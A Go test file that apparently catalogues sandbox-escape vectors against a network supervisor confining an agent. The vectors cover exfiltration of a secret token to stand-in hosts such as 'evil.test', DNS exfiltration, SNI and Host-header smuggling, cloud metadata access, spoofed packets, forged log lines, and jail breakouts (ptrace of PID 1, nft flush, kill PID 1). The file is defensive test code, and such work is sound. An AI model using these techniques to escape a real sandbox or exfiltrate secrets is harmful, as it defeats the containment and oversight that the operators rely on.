package main

import (
	"fmt"
	"io"
	"os"
	"strings"
	"time"

	"github.com/miekg/dns"
)

// In every name, header and payload below "%s" becomes the vector's marker,
// so the test can tell which vector reached the world, if any.

type vector struct {
	name string
	fn   vectorFunc
}

// vectors run in this order. The controls come first: they prove the
// legitimate path works (and teach the DNS proxy allowed.test's
// addresses, which makes the SNI/IP mismatch vectors meaningful). Vectors
// that would end the run if they succeeded (kill, nft flush) come last.
var vectors = []vector{
	{"control_dns_a", controlDNS(dns.TypeA)},
	{"control_dns_aaaa", controlDNS(dns.TypeAAAA)},
	{"control_tls_v4", controlTLS(worldV4)},
	{"control_tls_v6", controlTLS(worldV6)},

	// Plain TCP/TLS/HTTP to a denied name, and to an address no allowed
	// name resolves to.
	{"tls_denied_name_v4", tlsDenied(worldV4, "%s.evil.test")},
	{"tls_denied_name_v6", tlsDenied(worldV6, "%s.evil.test")},
	{"http_denied_name_v4", httpRequest(worldV4, 80, secretHead("%s.evil.test"))},
	{"http_denied_name_v6", httpRequest(worldV6, 80, secretHead("%s.evil.test"))},
	{"tcp_denied_ip_v4", payload(otherV4, 7000, "esc-%s")},
	{"tcp_denied_ip_v6", payload(otherV6, 7000, "esc-%s")},
	{"tls_denied_ip_v4", tlsDenied(otherV4, "%s.other.test")},
	{"tls_denied_ip_v6", tlsDenied(otherV6, "%s.other.test")},
	{"http_denied_ip_v4", httpRequest(otherV4, 80, "GET /%s HTTP/1.1\r\nHost: 198.51.100.3\r\n\r\n")},
	{"http_denied_ip_v6", httpRequest(otherV6, 80, "GET /%s HTTP/1.1\r\nHost: [2001:db8::3]\r\n\r\n")},
	{"mptcp_denied_ip_v4", mptcp(otherV4, 7000)},

	// Cloud metadata endpoints in every spelling (issue #11 item 12).
	{"metadata_azure_wireserver", payload("168.63.129.16", 80, "esc-%s")},
	{"metadata_gcp_v6", payload("fd20:ce::254", 80, "esc-%s")},
	{"metadata_nat64_local", payload("64:ff9b:1::a9fe:a9fe", 80, "esc-%s")},
	{"metadata_siit", payload("::ffff:0:a9fe:a9fe", 80, "esc-%s")},
	{"metadata_teredo", payload("2001:0:4136:e378:8000:63bf:5601:5601", 80, "esc-%s")},
	{"loopback_teredo", payload("2001:0:4136:e378:8000:63bf:80ff:fffe", 7000, "esc-%s")},

	// Allowed names sent to the wrong address.
	{"sni_ip_mismatch_v4", tlsDenied(otherV4, "allowed.test")},
	{"sni_ip_mismatch_v6", tlsDenied(otherV6, "allowed.test")},
	{"host_ip_mismatch_v4", httpRequest(otherV4, 80, "GET /%s HTTP/1.1\r\nHost: allowed.test\r\n\r\n")},
	{"host_ip_mismatch_v6", httpRequest(otherV6, 80, "GET /%s HTTP/1.1\r\nHost: allowed.test\r\n\r\n")},
	{"absolute_form_v4", httpRequest(worldV4, 80, "GET http://%s.evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n")},
	{"absolute_form_v6", httpRequest(worldV6, 80, "GET http://%s.evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n")},

	// HTTP framing (issue #11 items 4–6).
	{"http_host_mismatch_v4", httpRequest(worldV4, 80, "GET http://allowed.test/%s HTTP/1.1\r\nHost: %s.evil.test\r\n\r\n")},
	{"http_host_mismatch_v6", httpRequest(worldV6, 80, "GET http://allowed.test/%s HTTP/1.1\r\nHost: %s.evil.test\r\n\r\n")},
	{"http_refused_upgrade_ff", refusedUpgrade("\x0c")},
	{"http_refused_upgrade_vt", refusedUpgrade("\x0b")},
	{"http_refused_upgrade_nel", refusedUpgrade("\x85")},
	{"http_cl0_get", cl0("GET")},
	{"http_cl0_options", cl0("OPTIONS")},

	// ClientHello tricks.
	{"tls_split_records_v4", splitHello(worldV4)},
	{"tls_split_records_v6", splitHello(worldV6)},
	{"tls_nosni_denied_ip_v4", rawHello(otherV4, nil)},
	{"tls_nosni_denied_ip_v6", rawHello(otherV6, nil)},
	{"sni_trailing_dot", rawHello(worldV4, []byte("%s.evil.test."))},
	{"sni_mixed_case", rawHello(worldV4, []byte("%S.EvIl.TeSt"))},
	{"sni_ip_literal_v4", rawHello(otherV4, []byte("198.51.100.3"))},
	{"sni_ip_literal_v6", rawHello(otherV6, []byte("2001:db8::3"))},
	{"sni_nul", rawHello(worldV4, []byte("allowed.test\x00%s.evil.test"))},
	{"sni_newline", rawHello(worldV4, []byte("allowed.test\n%s.evil.test"))},

	// Other protocols on the transparent path.
	{"h2c_prior_knowledge_v4", h2c(otherV4, "%s.evil.test")},
	{"h2c_prior_knowledge_v6", h2c(otherV6, "%s.evil.test")},
	{"http_connect_v4", httpRequest(worldV4, 80, "CONNECT %s.evil.test:80 HTTP/1.1\r\nHost: %s.evil.test:80\r\n\r\n")},
	{"http_connect_v6", httpRequest(worldV6, 80, "CONNECT %s.evil.test:80 HTTP/1.1\r\nHost: %s.evil.test:80\r\n\r\n")},
	{"http_connect_denied_ip", httpRequest(otherV4, 80, "CONNECT %s.other.test:80 HTTP/1.1\r\nHost: %s.other.test:80\r\n\r\n")},

	// Slow clients.
	{"slow_silent_denied_ip", silent(otherV4, 7000, 3*time.Second)},
	{"slow_partial_hello", slowPartialHello},
	{"slowloris_goroutines", slowloris},

	// DNS.
	{"dns_udp_denied", dnsQuery("udp", worldV4+":53", "%s.evil.test", dns.TypeA)},
	{"dns_tcp_denied", dnsQuery("tcp", worldV4+":53", "%s.evil.test", dns.TypeA)},
	{"dns_udp_denied_v6", dnsQuery("udp", "["+worldV6+"]:53", "%s.evil.test", dns.TypeAAAA)},
	{"dns_outside_resolver_v4", dnsQuery("udp", otherV4+":53", "%s.evil.test", dns.TypeA)},
	{"dns_outside_resolver_far", dnsQuery("udp", "203.0.113.53:53", "%s.evil.test", dns.TypeA)},
	{"dns_outside_resolver_far_tcp", dnsQuery("tcp", "203.0.113.53:53", "%s.evil.test", dns.TypeA)},
	{"dns_outside_resolver_v6", dnsQuery("udp", "["+otherV6+"]:53", "%s.evil.test", dns.TypeAAAA)},
	{"dns_outside_allowed_name", dnsQuery("udp", "203.0.113.53:53", "%s.wild.test", dns.TypeA)},
	{"dns_exfil_wildcard", dnsExfil},
	{"dns_any", dnsQuery("udp", worldV4+":53", "%s.wild.test", dns.TypeANY)},
	{"dns_port_direct", dnsQuery("udp", "127.0.0.1:15002", "%s.evil.test", dns.TypeA)},
	{"dns_https_ech", dnsHTTPSECH},

	// UDP, ICMP, raw.
	{"udp_quic_v4", quic(otherV4)},
	{"udp_quic_v6", quic(otherV6)},
	{"udp_quic_allowed_ip", quic(worldV4)},
	{"udp_other_v4", udp(otherV4, 9999, "")},
	{"udp_other_v6", udp(otherV6, 9999, "")},
	{"udp_bindtodevice_lo_v4", udp(otherV4, 9998, "lo")},
	{"udp_bindtodevice_lo_v6", udp(otherV6, 9998, "lo")},
	{"udplite_v4", udplite(otherV4, 9997)},
	{"sctp_v4", sctp(otherV4, 9996)},
	{"icmp_ping_v4", ping(otherV4)},
	{"icmp_ping_v6", ping(otherV6)},
	{"raw_socket", rawSocket},

	// Issue 11: forged sources, loopback out of the pod, local services,
	// multicast reports.
	{"spoof_src_dns_v4", spoofedDNS(otherV4, worldV4)},
	{"spoof_src_dns_v6", spoofedDNS(otherV6, "2001:db8::2")},
	{"spoof_src_tcp_v4", spoofedSYN(otherV4, worldV4)},
	{"spoof_src_tcp_v6", spoofedSYN(otherV6, worldV6)},
	{"lo_dst_bound_udp_v4", boundUDP("127.13.37.1", 9998, markerPayload)},
	{"lo_dst_bound_udp_v6", boundUDP("::1", 9998, markerPayload)},
	{"lo_dst_bound_dns", boundUDP("127.0.0.53", 53, markerQuery)},
	{"lo_dst_scoped_link_local", scopedLinkLocal},
	{"local_sidecar_tcp", sidecar},
	{"local_docker_dns_udp", dockerDNS},
	{"control_local_agent_listener", agentLocal},
	{"mcast_ssm_join_v4", ssmJoin},
	{"mcast_join_v6", mldJoin},

	// The supervisor's own ports.
	{"proxy_port_loopback", proxyDirect("127.0.0.1")},
	{"proxy_port_loopback_v6", proxyDirect("::1")},
	{"proxy_port_own_ip", proxyDirect(agentV4)},
	{"proxy_port_allowed", proxyAllowed},
	{"health_port_own_ip", healthReadOnlyAt(agentV4)},
	{"health_readonly", healthReadOnly},

	// Processes.
	{"curl_noproxy", curlNoProxy},
	{"static_binary", staticResolveAndDial},
	{"daemon_double_fork", daemonDoubleFork},

	// Virtual hosts on an allowed name's address.
	{"vhost_keepalive_switch", keepaliveSwitch},
	{"vhost_h2c_learned_ip", h2c(worldV4, "%s.evil.test")},
	{"vhost_opaque_prefix", payload(worldV4, 80, "\r\nGET /%s HTTP/1.1\r\nHost: %s.evil.test\r\n\r\n")},

	// The DNS budget (each waits for it to refill).
	{"dns_spray_sources", dnsSpraySources},
	{"sni_flood_wildcard", sniFlood(otherV4)},

	// The log: the agent's own stdout/stderr (see stdio.go).
	{"stdout_forged_denial", forgedLogLines},
	{"stdout_partial_line", partialLines},
	{"stdout_nonblock_full", nonblockFull},

	// The jail.
	{"setuid_binary", setuidBinary},
	{"su", su},
	{"capset", capset},
	{"unshare_net", unshareNet},
	{"mount", mount},
	{"ptrace_pid1", ptracePID1},
	{"sysctl_ip_forward", sysctlWrite},
	{"nft_flush", nftFlush},
	{"kill_pid1", killPID1},
}

// fill puts the marker in for %s (and an upper-case one for %S).
func fill(r *Result, s string) string {
	m := marker(r.Vector)
	s = strings.ReplaceAll(s, "%TOKEN", os.Getenv("ESCAPE_SECRET"))
	s = strings.ReplaceAll(s, "%s", m)
	return strings.ReplaceAll(s, "%S", strings.ToUpper(m[:len(m)/2])+m[len(m)/2:])
}

// secretHead is a request that carries a secret in its query and its
// Authorization header: neither may show up in the supervisor's log,
// /denials or /metrics.
func secretHead(host string) string {
	return "GET /esc-path?token=%TOKEN HTTP/1.1\r\nHost: " + host + "\r\nAuthorization: Bearer %TOKEN\r\n\r\n"
}

func payload(ip string, port int, p string) vectorFunc {
	return func(r *Result) { send(r, ip, port, []byte(fill(r, p))) }
}

func h2c(ip, host string) vectorFunc {
	return func(r *Result) { send(r, ip, 80, h2cPreface(ip, fill(r, host))) }
}

func controlTLS(ip string) vectorFunc {
	return func(r *Result) {
		body, err := tlsGet(r, ip, 443, "allowed.test")
		if err != nil || !strings.Contains(body, "world says hello to allowed.test") {
			r.Observed = "error"
			r.note("allowed.test over TLS failed: %v %q", err, clip([]byte(body)))
			return
		}
		r.Observed = allowed
		r.note("world says hello")
	}
}

// slowPartialHello sends the first bytes of a ClientHello and stalls: the
// classification deadline must end it.
func slowPartialHello(r *Result) {
	c, err := dialFlow(r, worldV4, 443)
	if err != nil {
		r.note("connect: %v", err)
		return
	}
	defer c.Close()
	_, _ = c.Write(rawClientHello([]byte(marker(r.Vector)+".evil.test"), nil)[:20])
	start := time.Now()
	_ = c.SetReadDeadline(time.Now().Add(3 * time.Second))
	b, err := io.ReadAll(c)
	if time.Since(start) >= 3*time.Second {
		r.escape("still open after 3s with a partial ClientHello")
		return
	}
	r.note("closed after %v", time.Since(start).Round(10*time.Millisecond))
	judge(r, b, err)
}

// keepaliveSwitch: the first request on a connection names the allowed
// host (and is allowed); the second, on the same connection, names a
// denied one. The classification saw only the first.
func keepaliveSwitch(r *Result) {
	c, err := dialFlow(r, worldV4, 80)
	if err != nil {
		r.note("connect: %v", err)
		return
	}
	defer c.Close()
	fmt.Fprintf(c, "GET /control HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
	buf := make([]byte, 4096)
	_ = c.SetReadDeadline(time.Now().Add(ioWindow))
	n, err := c.Read(buf)
	r.note("first answer: %q %v", clip(buf[:n]), err)
	fmt.Fprintf(c, "GET /%s HTTP/1.1\r\nHost: %s.evil.test\r\nConnection: close\r\n\r\n", marker(r.Vector), marker(r.Vector))
	rest, _ := readAll(c)
	if strings.Contains(string(rest), "hello to "+marker(r.Vector)+".evil.test") {
		r.escape("second request served for %s.evil.test: %q", marker(r.Vector), clip(rest))
		return
	}
	r.note("second answer: %q", clip(rest))
}
